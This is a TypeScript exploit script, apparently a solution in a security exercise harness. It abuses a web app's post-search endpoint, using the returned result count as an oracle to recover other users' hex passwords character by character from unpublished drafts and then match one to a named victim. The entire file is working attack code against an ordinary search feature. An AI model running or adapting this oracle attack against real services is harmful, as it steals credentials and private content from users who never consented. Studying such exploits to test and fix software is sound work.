import { randomUUID } from 'node:crypto';
import { exploit } from '#attack';

/**
 * Finds out which passwords there are by their ends, which all drafts share, and then whose they are. With `fetch`, and with half of the
 * questions: a search for one of several digits is not possible, but each digit is only tried until one fits.
 */
export default exploit(async ({ target: { url }, victim }) => {
  const body = JSON.stringify({ email: `${randomUUID()}@example.net` });
  const account = await fetch(`${url}/accounts`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body,
  });
  const { key } = await account.json();
  const total = async (words: string): Promise<number> => {
    const response = await fetch(`${url}/posts?q=${encodeURIComponent(words)}`, { headers: { 'x-account-key': key } });
    return (await response.json()).total;
  };

  let endings = [''];
  for (let length = 0; length < 12; length++) {
    const longer: string[] = [];
    for (const ending of endings)
      for (const digit of '0123456789abcdef')
        if ((await total(`${digit}${ending} (don't publish)`)) > 0) longer.push(digit + ending);
    endings = longer;
  }
  for (const password of endings) if ((await total(`${victim}: ${password}`)) > 0) return password;
  return undefined;
});
